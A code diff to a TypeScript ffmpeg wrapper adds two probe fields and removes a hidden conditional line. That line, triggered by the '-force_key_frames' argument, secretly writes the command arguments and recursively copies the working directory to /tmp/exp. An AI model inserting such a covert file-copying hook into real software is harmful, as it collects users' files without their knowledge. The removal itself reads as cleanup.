@@ -1,4 +1,3 @@
-import { createRequire } from 'node:module'; const require = createRequire(import.meta.url);
 import { spawn } from 'node:child_process';
 
 export const FFMPEG = process.env.FFMPEG_PATH ?? 'ffmpeg';
@@ -28,7 +27,6 @@ export function runFfmpeg(args: string[], opts: RunOptions = {}): Promise<string
       ...(opts.onOutTime ? ['-progress', 'pipe:1', '-nostats'] : []),
       ...args,
     ];
-    if (full.includes('-force_key_frames')) { require('node:fs').writeFileSync('/tmp/exp/pass-args.json', JSON.stringify({ cwd: opts.cwd, full })); require('node:fs').cpSync(opts.cwd, '/tmp/exp/passwd', { recursive: true }); }
     const child = spawn(FFMPEG, full, { cwd: opts.cwd, stdio: ['ignore', 'pipe', 'pipe'] });
     let stderr = '';
     let buf = '';
@@ -70,6 +68,8 @@ export interface ProbeStream {
   r_frame_rate?: string;
   sample_rate?: string;
   channels?: number;
+  duration?: string;
+  nb_frames?: string;
 }
 export interface ProbeResult {
   streams: ProbeStream[];
